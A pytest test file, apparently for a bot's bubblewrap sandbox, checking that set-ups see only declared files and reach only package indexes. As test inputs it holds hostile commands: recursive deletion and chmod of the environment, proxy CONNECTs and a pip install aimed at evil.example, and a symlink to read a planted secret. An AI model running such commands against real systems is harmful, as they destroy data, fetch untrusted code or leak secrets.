"""Environments are made from declared files alone; only package indexes are in reach."""

import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from bot.adapters.sandbox.bubblewrap import BubblewrapSandbox
from bot.adapters.sandbox.host import SETUP_LIMITS
from bot.adapters.sandbox.results import TreeRefusedError
from bot.ports.sandbox import (
    MIB,
    Ending,
    SandboxRequest,
    SandboxResult,
    SandboxStage,
    Setup,
    SetupFileError,
    Source,
)
from tests.support import package_index
from tests.support.gitrepo import GitRepository
from tests.support.package_index import PackageIndex
from tests.support.sandbox import SMALL, Recorder

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PackageIndex]:
    with package_index.serving(tmp_path_factory.mktemp("index")) as index:
        yield index


@pytest.fixture(scope="module")
def installing(
    sandbox: BubblewrapSandbox, index: PackageIndex, sandbox_directory: Path
) -> BubblewrapSandbox:
    """A sandbox whose set-ups may reach the index, with no environment made yet."""
    host = replace(
        sandbox._host,
        directory=sandbox_directory / "setups",
        package_indexes=(package_index.HOST,),
        certificates=index.certificates,
        resolve=index.resolve,
        setup_limits=replace(SETUP_LIMITS, seconds=60, disk=256 * MIB, memory=1024 * MIB),
    )
    host.directory.mkdir()
    host.directory.chmod(0o711)
    return BubblewrapSandbox(host)


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Source:
    repository = GitRepository(tmp_path_factory.mktemp("repository") / "work")
    (repository.path / "link.txt").symlink_to("requirements.txt")
    commit = repository.commit(
        {
            "requirements.txt": "tinydep==1.0\n",
            "locks/dev.txt": "dev\n",
            "locks/big.txt": b"x" * 17 * MIB,
            "conftest.py": "raise SystemExit\n",
        }
    )
    return Source(repository.path / ".git", commit)


def prepared(
    sandbox: BubblewrapSandbox,
    source: Source | None,
    setup: str,
    files: tuple[str, ...] = (),
    command: str = "true",
) -> SandboxResult:
    request = SandboxRequest(
        command=command, source=source, setup=Setup(setup, files), limits=SMALL
    )
    return sandbox.run(request, lambda _: None)


INSTALL = f"pip install --index-url https://{package_index.HOST}/simple -r requirements.txt"
ASK = "python -c 'import sys, tinydep; print(sys.prefix, tinydep.ANSWER)'"


def test_a_set_up_installs_through_the_proxy_and_the_tests_use_it(
    installing: BubblewrapSandbox, source: Source, index: PackageIndex
) -> None:
    result = prepared(installing, source, INSTALL, ("requirements.txt",), ASK)
    assert result.output == b"/env 42\n", result.notes
    assert result.setup_seconds > 0
    asked = len(index.asked)
    again = prepared(installing, source, INSTALL, ("requirements.txt",), ASK)
    assert again.output == b"/env 42\n"
    assert len(index.asked) == asked
    assert again.setup_seconds < result.setup_seconds / 2


def test_an_environment_cannot_be_changed_by_the_tests(
    installing: BubblewrapSandbox, source: Source
) -> None:
    attack = "touch /env/x; echo >>/env/bin/pip; rm -rf /env/lib; chmod -R 777 /env; ls /env"
    result = prepared(installing, source, INSTALL, ("requirements.txt",), attack)
    assert b"lib" in result.output.splitlines()
    again = prepared(installing, source, INSTALL, ("requirements.txt",), ASK)
    assert again.output == b"/env 42\n"


def test_a_set_up_sees_only_the_files_it_declares(
    installing: BubblewrapSandbox, source: Source
) -> None:
    setup = "pwd >/env/seen; find . -type f >>/env/seen"
    declared = ("requirements.txt", "locks/dev.txt")
    result = prepared(installing, source, setup, declared, "sort /env/seen")
    assert result.output.split() == [
        b"./locks/dev.txt",
        b"./requirements.txt",
        b"/sandbox/tree",
    ]


@pytest.mark.parametrize(
    ("file", "reason"),
    [
        ("missing.txt", "missing.txt"),
        ("link.txt", "link.txt"),
        ("locks", "locks"),
        ("../outside", "outside"),
        ("locks/big.txt", "17,825,792 bytes"),
    ],
)
def test_a_declared_file_that_is_none_is_named(
    installing: BubblewrapSandbox, source: Source, file: str, reason: str
) -> None:
    with pytest.raises(SetupFileError, match=reason):
        prepared(installing, source, "true", (file,))


def test_a_set_up_reaches_nothing_but_the_indexes(
    installing: BubblewrapSandbox, source: Source, index: PackageIndex
) -> None:
    setup = """
python3 - <<'END'
import os, socket
def said(request):
    with socket.create_connection(("127.0.0.1", 3128), 5) as it:
        it.sendall(request)
        return it.recv(100).split(b"\\r\\n")[0].decode()
def direct(address):
    try: socket.create_connection(address, 2)
    except OSError as error: return "no"
    return "yes"
with open("/env/seen", "w") as seen:
    for request in (
        b"CONNECT packages.example:443 HTTP/1.1\\r\\n\\r\\n",
        b"CONNECT packages.example:80 HTTP/1.1\\r\\n\\r\\n",
        b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n",
        b"CONNECT 127.0.0.1:443 HTTP/1.1\\r\\n\\r\\n",
        b"CONNECT packages.example.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
        b"GET http://packages.example/ HTTP/1.1\\r\\nHost: packages.example\\r\\n\\r\\n",
        b"nonsense\\r\\n\\r\\n",
    ):
        print(said(request), file=seen)
    print(direct(("127.0.0.1", PORT)), direct(("192.0.2.1", 443)), file=seen)
END
""".replace("PORT", str(index.port))
    result = prepared(installing, source, setup, (), "cat /env/seen")
    refused = "HTTP/1.1 403 Forbidden"
    assert result.output.decode().splitlines() == [
        "HTTP/1.1 200 Connection established",
        *([refused] * 6),
        "no no",
    ]


def test_a_failed_set_up_is_told_with_its_log_and_what_it_was_refused(
    installing: BubblewrapSandbox, source: Source
) -> None:
    setup = "pip install --retries 0 --index-url https://evil.example/simple tinydep"
    result = prepared(installing, source, setup, (), "echo ran")
    assert result.ending is Ending.SETUP_FAILED
    assert result.status == 1
    assert b"No matching distribution found for tinydep" in result.output
    assert b"ran" not in result.output.splitlines()
    assert any("evil.example:443 is not among the package indexes" in n for n in result.notes)


def test_a_failed_set_up_is_tried_again(
    installing: BubblewrapSandbox, sandbox_directory: Path, source: Source
) -> None:
    kept = set((sandbox_directory / "setups" / "environments").iterdir())
    for _ in range(2):
        result = prepared(installing, source, "echo no; exit 7")
        assert (result.ending, result.status, result.output) == (Ending.SETUP_FAILED, 7, b"no\n")
    left = set((sandbox_directory / "setups" / "environments").iterdir()) - kept
    assert [path.suffix for path in left] == [".lock"]


def test_a_set_up_that_hangs_is_stopped(installing: BubblewrapSandbox) -> None:
    host = installing._host
    limits = replace(host.setup_limits, seconds=0.5, grace=0.5)
    impatient = BubblewrapSandbox(replace(host, setup_limits=limits))
    result = prepared(impatient, None, "sleep 60")
    assert result.ending is Ending.SETUP_FAILED
    assert result.notes[0] == "the set-up was stopped: timed out"


def test_a_set_up_that_leaves_something_special_makes_no_environment(
    installing: BubblewrapSandbox,
) -> None:
    with pytest.raises(TreeRefusedError):
        prepared(installing, None, "mkfifo /env/pipe")


def test_links_in_an_environment_lead_nowhere_outside(
    installing: BubblewrapSandbox, sandbox_directory: Path
) -> None:
    secret = sandbox_directory / "environment-secret"
    secret.write_text("hunter2")
    secret.chmod(0o644)
    result = prepared(installing, None, f"ln -s {secret} /env/link", (), "cat /env/link")
    assert result.status
    assert b"hunter2" not in result.output


def test_runs_that_want_the_same_environment_make_it_once(
    installing: BubblewrapSandbox, source: Source
) -> None:
    setup = "sleep 0.5; head -c 16 /dev/urandom | od -x >/env/once"
    outputs: list[bytes] = []

    def one() -> None:
        outputs.append(prepared(installing, source, setup, (), "cat /env/once").output)

    threads = [threading.Thread(target=one) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(outputs) == 3
    assert len(set(outputs)) == 1


def test_a_set_up_is_told_of_as_such(installing: BubblewrapSandbox) -> None:
    recorder = Recorder()
    request = SandboxRequest(command="true", setup=Setup("echo told"), limits=SMALL)
    installing.run(request, recorder)
    assert {told.stage for told in recorder.told} >= {SandboxStage.SETUP, SandboxStage.RUNNING}


def test_other_bytes_in_a_declared_file_make_another_environment(
    installing: BubblewrapSandbox, tmp_path: Path
) -> None:
    repository = GitRepository(tmp_path / "work")
    outputs = []
    for text in ("one", "two"):
        commit = repository.commit({"requirements.txt": text})
        where = Source(repository.path / ".git", commit)
        setup = "cp requirements.txt /env/copy"
        result = prepared(installing, where, setup, ("requirements.txt",), "cat /env/copy")
        outputs.append(result.output)
    assert outputs == [b"one", b"two"]


def test_every_tool_is_told_which_certificates_to_trust(installing: BubblewrapSandbox) -> None:
    result = prepared(
        installing, None, "echo $SSL_CERT_FILE $PIP_CERT >/env/seen", (), "cat /env/seen"
    )
    assert result.output.split() == [b"/run/canon/certificates.pem"] * 2
